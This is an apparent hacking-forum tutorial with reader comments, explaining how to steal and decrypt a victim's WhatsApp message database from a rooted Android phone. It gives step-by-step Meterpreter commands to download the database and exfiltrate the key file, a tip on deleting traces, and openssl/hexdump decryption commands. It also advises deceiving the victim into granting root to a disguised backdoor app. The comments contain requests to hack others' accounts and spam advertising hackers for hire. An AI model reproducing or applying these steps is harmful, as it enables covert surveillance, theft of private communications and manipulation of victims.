How To: Hack and Decrypt WhatsApp Database (Remotely) [ROOT]

Hack and Decrypt WhatsApp Database (Remotely) [ROOT]

Hello my fellow hackers, it's been a while since my last post, I can't get the time now-a-days for the posts but can manage to tend to comments.

Welcome to my 9th post, this tutorial will explain how to extract and decrypt WhatsApp database from the Victim's android system.

Yes the device should be rooted, there is no way around to do this remotely. I have been getting PM's about this and can't simplyanswer with the word SPOOF.


Almost everyone knows about it. It is a social android application, that's enables the user to send free messages through the internet within seconds. The developers have made huge success and have high level and complex algorithms to encrypt and store the data, which changes with every update! And hence everyone uses it to send even the most personnel messages because they know it's safe.

But is it ?

Yes is it actually very safe, however if the Victim is a fool or gullible, he/she is the main vulnerability here. I see many of the 'experienced users' root their android to explore/push to the system's maximum limits. Following their footsteps the 'inexperienced users' also root/brick their android just to accomplish a minor task. They don't even care about the Cons.

Anyway, lets execute the hack:

Step 1: Exploit and Gain Access to the Android!

This the easy part which you all like and are used-to.

Follow this guide to gain access to the Rooted android.

Once at meterpreter prompt, type check_root to make sure the device is rooted.

What Do We Require?

To decrypt the database, we need the database itself obviously and a key file in the /data folder, for which we need root to access the location. We cannot decrypt the database without the key (Until you want to spend more than 100 of years even with amainframe!)

Step 2: Let's Begin the Extraction Process for Database:

Inmeterpreter type:

  • cd /
  • cd /sdcard/WhatsApp
  • ls (Print the current directory)
  • cd Databases
  • download msgstore.db.crypt8 (This will take time, maybe a LOT)

So, the database has been downloaded, now we need to 'Key of Decryption'
(Key file that holds the encryption keys cannot be retrieved any-more unless your phone is rooted)

Step 3: Drop into the Shell:

As told before, but adding a little more detail here:

To decrypt the crypt8 files, we will need the key file. The key filestores two sets of decryption keys – the actual encryption key,K and an initialisation vector called IV . WhatsApp stores the key file in a secure location.

Extracting the key file, type:

  • shell
  • su (For Super User access or simply escalating privileges)

Here comes the tricky part, if the target is experienced and skilled, he must have installed the SuperSU application.

The application is responsible for holding the permissions whether which application can have access to root. It even holds all the logs.

So, we need to convince the Victim that the application is for boosting (or any other reason) his/her android system but at thesame time requires root access to reach it's maximum potential. Here is an excellent tutorial by bart that shows how to disguise a back-door application.

(---"Victim, opens SuperSU and gives thepermission"---)

There are some cases with inexperienced and unskilled users:

  • They don't have a SuperSU application installed.
  • They have not changed the setting for newly installed apps to PROMPT instead of GRANT.

So in these cases we are really lucky!

Lets' continue:
(If the android is not rooted you can navigate, but not copy or print the directory)

  • cd /
  • cd /data/data
  • ls
  • cd com.whatsapp
  • ls
  • cd files
  • ls
  • cp key /sdcard/Download

(Means copy the file 'key' to sdcard>Download folder)Terminate the shell:
^C (Control+C)

The key has been extracted from /data to /sdcard successfully!

Step 4: Again to Meterpreter:

Lets download the extracted key file to our root directory as we did for the encrypted database, type:

  • cd /
  • cd /sdcard/Download
  • download key
  • rm key (Make sure you do that to delete the key file)

The Key has been extracted to our root directory successfully!


Now that we have the database and the key,we can easily decrypt it with one of the two methods:

#1 With Simple Linux Commands:

With the two necessities in the root directory, open a terminal and type:
(Copy and Paste the commands one at a time, don't make a a script out of it, or it will not work)

  • hexdump -e '2/1 "%02x"' key | cut -b 253-316 > aes.txt
  • hexdump -n 67 -e '2/1 "%02x"' msgstore.db.crypt8 | cut -b 103-134 > iv.txt
  • dd if=msgstore.db.crypt8 of=msgstore.db.crypt8.nohdr ibs=67 skip=1• openssl enc -aes-256-cbc -d -nosalt -nopad -bufsize 16384 -in msgstore.db.crypt8.nohdr -K $(cat aes.txt) -iv $(cat iv.txt) > msgstore.gz
  • gzip -cdq msgstore.gz > msgstore.db

If you even a little bash, then you can easily understand these commands. (Source: here)

If the 4th command does not work, follow:

  • hexdump -e '2/1 "%02x"' key | cut -b 253-316

(Copy the printed text)

  • hexdump -n 67 -e '2/1 "%02x"' msgstore.db.crypt8 | cut -b 103-134

(Copy the printed text)

  • openssl enc -aes-256-cbc -d -nosalt -nopad -bufsize 16384 -in msgstore.db.crypt8.nohdr -K (Paste text from 1st command) -iv (Paste text from 2nd command) > msgstore.gz

These commands have bugs/errors in the result, so I would highly recommend to go for the #2 method.

#2 With Simple Windows WhatsApp Viewer Application:

The application has an excellent interface, from GitHub . Download theapplication from there.

Also, copy the key and database to windows, I hope you know how to do that.

  • Open the application (in windows of course).
  • Click FIle, then on 'Decrypt .crypt8'
  • In the dialogue box that appears, provide the Key file and Database.
  • Click OK, you will see that a 'msgstore.decrypted' file has appeared at your desktop.
  • Open it using the same application, go to 'File' then 'Open'.
  • Provide the Decrypted file, leave the Account name blank and for the 'wa.db', you can hack the phone again to extract this .db, to resolve contact names as mentioned in the cropped screenshot below.
  • Click 'OK'

And 'Boom' all the contacts with all the chats even the latest ones awaits your Click

The Tutorial Ends:

Now that you know how dangerous Rooting actually is, please, beware.

A cracker can not only perform this simple hack, he can even extract all the Wi-Fi passwords stored in your android, he can access everything, things that even you don't have access to!! He may spread to your PC once you connect your android, hack your accounts (saved passwords) and even frame you. You just become a mere pawn to his further plans.

So, think twice before rooting and be really careful, while holding a rooted android in your hands.

Thank You!

Just updated your iPhone? You'll find new features for Podcasts, News, Books, and TV, as well as important security improvements and fresh wallpapers. Find out what's new and changed on your iPhone with the iOS 17.5 update.Yeah, me too!

Hi fear
Am new to hacking , pls can i be ur student for a little while to learn some stuff?


i have a lot of jobs to hack whatsapp can you get me privately

Hello there. I'm new here. Just got registered after reading your post. Do message me please. I need your help. I can't message you first because I don't know how.. Please message me ASAP please..

Excellent tutorial, I was looking into this a few weeks ago as well. (Also thanks for the kind words :) )

Thank You Bart,

I got stuck after decompiling the malicious apk (to change the name and icon), then your tutorial showed me another way about it.

So yes, it was truly amazing. :)

Awesome, FEAR!
I'm looking forward to more android hacking!

Thank You Cameron!
The pace of the development in android hacking is very slow, while androids are spreading faster than computers.
So, I will try to keep the spirits up.

just few days ago, I was wondering of what encryption those files were using. great article F.E.A.R

this means that the victim's phone should be rooted to extract the whatsapp database

Yes, that's what the tutorial explains all the time.Are you saying I have to get physical access to their phone first?

No, if you follow this tutorial.

What type if you want to upload a picture of the victim

Using the upload command , but why would you want to do that, did you meant download?

yes i meant download

Simply use the download command, Eg:
download acb.png
download a/b/c/xyz.jpeg

Do I have to tell the victim to actually install the apk and tell him to open it when I hit exploit? It's kinda impossible for the victim not to suspect then...

I'm not a hacker, but I am concerned that someone may have hacked my watsapp. Is it possible that someone living thousands of miles away (has no access to my networks, wifi or phone) may be able to hack my watsapp in real time? Also, can a person intercept my skype calls or IMs even if they are not a contact of mine? Please enlighten me.I'm getting an error while trying to download msgstore.db.crypt8

  • stdapifsstat: operation failed: 1
  • can anybody help me?

which phone is the targeted phone? I did not understand.

Can you contact me please? It is impossible to send you a private message.

Just an enquiry..

There's an easy way instead of decoding that file...I can download it, paste iton my phone, and create a new whatsapp with any phone number and use it as a backup so I can read them clearly. Am I right?

Contact titan_brown on Instagram for hacks and recovery. He is the only online hacker I trust, he has really helped me a lot. Try him out and drop your testimonies

Only incfidelibus offers the best and most satisfying solution when it comes tomobile phone hack and monitoring. You can send your request to incfidelibus via thegmail address or just search 'incfidelibus' online

Share Your Thoughts

  • Hot
  • Latest